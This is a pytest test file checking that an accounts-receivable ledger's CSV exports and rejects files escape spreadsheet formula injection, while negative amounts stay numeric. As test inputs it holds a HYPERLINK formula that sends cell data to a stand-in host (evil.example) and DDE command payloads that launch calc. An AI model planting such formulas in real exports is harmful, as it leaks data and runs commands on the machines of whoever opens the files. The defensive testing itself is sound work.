"""CSV outputs meant for spreadsheets are neutralised against formula injection (issue 9.16).

A customer name such as ``=HYPERLINK("http://x","click")`` recorded in the ledger must not
become a live formula when an ageing or KPI report, or an import's rejects file, is opened in a
spreadsheet. Plain numbers (``-12.00``) stay numbers. ``--csv-raw`` writes the cells as they are.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from typer.testing import CliRunner

from arledger.adapters import csv_output
from arledger.adapters.application.ledger import Ledger
from arledger.adapters.cli.app import app
from arledger.adapters.cli.formats import ageing_csv, kpis_csv
from arledger.adapters.csv_output import neutralise, restore
from arledger.adapters.ingest.importer import ColumnMapping, import_file
from arledger.domain.money import Money
from arledger.domain.policy import AgeingPolicy, LossRate
from arledger.projections import ageing, kpis

ADAPTERS = Path(__file__).resolve().parents[2] / "adapters"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        (LINK, "'" + LINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("--1", "'--1"),
        ("-1-1", "'-1-1"),
        ("'=1+1", "''=1+1"),  # so that reading it back gives what was written
        ("''-x", "'''-x"),
        # Plain numbers are what a spreadsheet should read as numbers: nothing to evaluate.
        ("-12.00", "-12.00"),
        ("+12", "+12"),
        ("-0.5", "-0.5"),
        ("-.5", "-.5"),
        ("-1.5E+3", "-1.5E+3"),
        ("'-12.00", "'-12.00"),
        # Anything else is left alone.
        ("Acme Ltd", "Acme Ltd"),
        ("1+1", "1+1"),
        (" =1+1", " =1+1"),
        ("", ""),
        ("'quoted'", "'quoted'"),
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_gets_an_apostrophe_and_a_number_does_not(
    cell, written
):
    assert written == neutralise(cell)
    assert cell == restore(written)


def test_cells_that_are_not_text_are_written_as_text():
    assert ["", "-3", "12", "-1.50"] == [
        neutralise(value) for value in (None, -3, 12, Decimal("-1.50"))
    ]


def ageing_report(label: str) -> ageing.AgeingReport:
    return ageing.AgeingReport(
        as_of=date(2024, 12, 31),
        policy=AgeingPolicy(),
        grouping=ageing.AgeingGrouping.CUSTOMER,
        rows=(
            ageing.AgeingRow(
                key="@K1",
                label=label,
                currency="USD",
                buckets_minor=(-1200, 0, 0, 0, 0, 2400),
                open_minor=1200,
                days_past_due_max=-3,
            ),
        ),
    )


def test_the_ageing_csv_neutralises_a_formula_in_a_name_and_keeps_negative_amounts():
    rows = list(csv.reader(io.StringIO(ageing_csv(ageing_report(LINK)))))

    assert ["'@K1", "'" + LINK, "USD", "-12.00"] == [*rows[1][2:5], rows[1][5]]
    assert "-3" == rows[1][-1]
    raw = list(csv.reader(io.StringIO(ageing_csv(ageing_report(LINK), raw=True))))
    assert ["@K1", LINK] == raw[1][2:4]


def kpi_report(label: str) -> kpis.KpiReport:
    row = kpis.KpiRow(
        key="-owner",
        label=label,
        currency="USD",
        receivables_minor_beginning=-500,
        credit_sales_minor=0,
        receivables_minor_ending=0,
        receivables_minor_current=0,
        cash_collected_minor=500,
        settled_in_goods_minor=0,
        dso_days=Decimal("-3.5"),
        dso_days_countback=None,
        dso_days_best_possible=None,
        days_delinquent_average=None,
        cei_total_sales=None,
        cei_monthly_average=None,
        collection_rate=None,
        collection_rate_in_goods=None,
        promises_judged=0,
        promises_kept=0,
        promised_minor=0,
        promised_minor_paid=0,
        promise_kept_rate_by_count=None,
        promise_kept_rate_by_amount=None,
        buckets_minor=(0, 0, 0, 0, 0, 0),
        ecl_minor_by_bucket=(0, 0, 0, 0, 0, 0),
        ecl_minor=0,
    )
    return kpis.KpiReport(
        start_on=date(2024, 1, 1),
        end_on=date(2024, 3, 31),
        grouping=kpis.KpiGrouping.OWNER,
        rows=(row,),
        bucket_labels=AgeingPolicy().bucket_labels,
        provision_rates=(LossRate.of_bps(0),) * 6,
        policy_version=1,
    )


def test_the_kpis_csv_neutralises_a_formula_in_a_label_and_keeps_negative_figures():
    rows = list(csv.DictReader(io.StringIO(kpis_csv(kpi_report("+SUM(A1:A9)")))))

    assert ("'-owner", "'+SUM(A1:A9)") == (rows[0]["key"], rows[0]["label"])
    assert ("-5.00", "-3.5") == (rows[0]["beginning_ar"], rows[0]["dso_days"])
    raw = list(csv.DictReader(io.StringIO(kpis_csv(kpi_report("+SUM(A1:A9)"), raw=True))))
    assert ("-owner", "+SUM(A1:A9)") == (raw[0]["key"], raw[0]["label"])


MAPPING = ColumnMapping(
    columns={
        "customer_code": "Customer",
        "customer_name": "Name",
        "invoice_number": "Invoice",
        "amount": "Amount",
        "issued_on": "Issued",
    },
)


def test_the_rejects_file_is_neutralised_and_reads_back_as_the_cells_were(tmp_path):
    ledger = Ledger({"ARLEDGER_STORE": "memory"})
    path = tmp_path / "invoices.csv"
    path.write_text(
        "Customer,Name,Invoice,Amount,Issued\n"
        f'K1,"{LINK.replace(chr(34), chr(34) * 2)}",R-1,-10.00,2024-01-01\n'
        "K2,@Acme,R-2,0,2024-01-01\n",
        encoding="utf-8",
    )
    rejects = tmp_path / "rejects.csv"

    result = import_file(ledger, path, MAPPING, rejects_to=rejects)

    assert [(2, "amount"), (3, "amount")] == [(p.line, p.field) for p in result.rejected]
    written = list(csv.reader(rejects.open(encoding="utf-8", newline="")))
    assert ["2", "amount", "'-10.00 must be positive", "K1", "'" + LINK, "R-1", "-10.00"] == (
        written[1][:7]
    )
    assert "'@Acme" == written[2][4]
    fixed = [*written[:2], [*written[2][:6], "5.00", *written[2][7:]]]
    with rejects.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(fixed)
    import_file(ledger, rejects, MAPPING, rejects_to=tmp_path / "rejects-2.csv")
    assert "@Acme" == ledger.customer("K2").name


def test_the_rejects_file_is_written_raw_on_request(tmp_path):
    ledger = Ledger({"ARLEDGER_STORE": "memory"})
    path = tmp_path / "invoices.csv"
    path.write_text("Customer,Name,Invoice,Amount,Issued\nK2,@Acme,R-2,0,2024-01-01\n", "utf-8")
    rejects = tmp_path / "rejects.csv"

    import_file(ledger, path, MAPPING, rejects_to=rejects, rejects_raw=True)

    assert (
        "@Acme" == next(iter(list(csv.reader(rejects.open(encoding="utf-8", newline="")))[1:]))[4]
    )


def first_row(text: str) -> dict[str, str]:
    return next(iter(csv.DictReader(io.StringIO(text))))


def test_the_cli_neutralises_csv_unless_given_csv_raw(tmp_path):
    env = {"ARLEDGER_STORE": "sqlite", "ARLEDGER_DB": str(tmp_path / "x.db")}
    ledger = Ledger(env)
    ledger.open_account(
        "K1", name=LINK, currency="USD", collection_owner="=owner", opened_on=date(2024, 1, 1)
    )
    ledger.issue_invoice(
        "R-1", customer_code="K1", amount=Money(1000, "USD"), issued_on=date(2024, 1, 1)
    )
    ledger.close()
    runner = CliRunner()
    ageing_args = ["ageing", "--as-of", "2024-06-30", "--by", "customer", "--format", "csv"]
    kpi_args = ["kpis", "--from", "2024-01-01", "--to", "2024-06-30", "--by", "owner"]

    safe = runner.invoke(app, ageing_args, env=env)
    raw = runner.invoke(app, [*ageing_args, "--csv-raw"], env=env)
    kpi_safe = runner.invoke(app, [*kpi_args, "--format", "csv"], env=env)
    kpi_raw = runner.invoke(app, [*kpi_args, "--format", "csv", "--csv-raw"], env=env)
    misused = runner.invoke(app, [*kpi_args, "--format", "json", "--csv-raw"], env=env)

    assert 0 == safe.exit_code, safe.output
    assert "'" + LINK == first_row(safe.stdout)["label"]
    assert LINK == first_row(raw.stdout)["label"]
    assert "'=owner" == first_row(kpi_safe.stdout)["key"]
    assert "=owner" == first_row(kpi_raw.stdout)["key"]
    assert 2 == misused.exit_code
    assert ["error: --csv-raw is for --format csv"] == misused.stderr.splitlines()


def test_every_csv_writer_of_the_adapters_is_the_one_helper():
    """The rule has one home: no adapter makes a csv.writer of its own."""
    writers = {
        path.name
        for path in ADAPTERS.rglob("*.py")
        if re.search(r"\bcsv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8"))
    }

    assert {"csv_output.py"} == writers
    assert "def writer(" in (ADAPTERS / "csv_output.py").read_text(encoding="utf-8")
    assert csv_output.writer is not None


@pytest.mark.parametrize("lineterminator", ["\n", "\r\n"])
@pytest.mark.parametrize("raw", [False, True])
def test_a_cell_holding_a_line_break_is_quoted_whatever_the_line_ending(lineterminator, raw):
    """csv.writer quotes only the characters of its own line terminator: with "\\n" a bare CR
    in a name went out unquoted and split the row in two when read."""
    buffer = io.StringIO(newline="")
    writer = csv_output.writer(buffer, raw=raw, lineterminator=lineterminator)
    cells = ["K1", "Acme\rLtd", "two\nlines", "both\r\n", "-1.00"]

    writer.writerow(cells)

    assert buffer.getvalue().endswith(lineterminator)
    assert [cells] == list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
